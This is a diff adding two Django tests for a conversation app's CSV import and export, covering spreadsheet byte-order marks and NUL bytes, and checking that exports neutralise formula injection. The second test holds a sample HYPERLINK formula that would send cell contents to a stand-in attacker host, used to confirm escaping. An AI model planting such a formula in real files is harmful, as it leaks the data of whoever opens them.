@@ -150,6 +150,48 @@ def test_a_bad_upload_is_explained_and_nothing_is_half_written(
     assert Conversation.objects.count() == 0
 
 
+def test_an_export_saved_by_a_spreadsheet_imports_as_written(
+    tmp_path: Path, client: Client, cast: Any
+) -> None:
+    """Excel's "CSV UTF-8" starts the file with a byte-order mark; a statement can carry a
+    NUL (which PostgreSQL cannot store) or an id too big for a database number."""
+    write_small_export(tmp_path)
+    (tmp_path / "comments.csv").write_bytes(
+        b"\xef\xbb\xbfcomment-id,comment-body,moderated\r\n"
+        b"0,Libraries should open on Sundays.,1\r\n"
+        b"99999999999999999999,Buses every ten\x00 minutes,1\r\n"
+    )
+    client.force_login(cast.caseworker)
+    response = client.post(
+        "/common-ground/import/", {"title": "Library", "question": "?", **uploads(tmp_path)}
+    )
+    assert response.status_code == 302
+    texts = set(Conversation.objects.get().statements.values_list("text", flat=True))
+    assert "Libraries should open on Sundays." in texts
+    assert "Buses every ten minutes" in texts
+
+
+def test_the_export_cannot_run_a_statement_as_a_formula_and_reads_back_as_written(
+    client: Client, cast: Any, voted: Conversation, tmp_path: Path
+) -> None:
+    """Anyone may write a statement; the staff who open comments.csv in a spreadsheet must
+    not run it. Imported again, the statement reads as it was written."""
+    written = '=HYPERLINK("http://evil.example/?"&A1,"Buses every ten minutes")'
+    voted.statements.filter(number=1).update(text=written)
+    client.force_login(cast.caseworker)
+    response = client.get(f"/common-ground/{voted.pk}/polis-export/")
+    zipfile.ZipFile(io.BytesIO(response.content)).extractall(tmp_path)
+    comments = (tmp_path / "comments.csv").read_text()
+    assert "'=HYPERLINK" in comments and ",=HYPERLINK" not in comments
+    files = {
+        "comments": SimpleUploadedFile("comments.csv", comments.encode(), "text/csv"),
+        "votes": SimpleUploadedFile("votes.csv", (tmp_path / "votes.csv").read_bytes()),
+    }
+    client.post("/common-ground/import/", {"title": "Again", "question": "?", **files})
+    again = Conversation.objects.get(title="Again")
+    assert again.statements.get(number=1).text == written
+
+
 def test_an_upload_without_votes_is_refused(tmp_path: Path, client: Client, cast: Any) -> None:
     write_small_export(tmp_path)
     client.force_login(cast.caseworker)
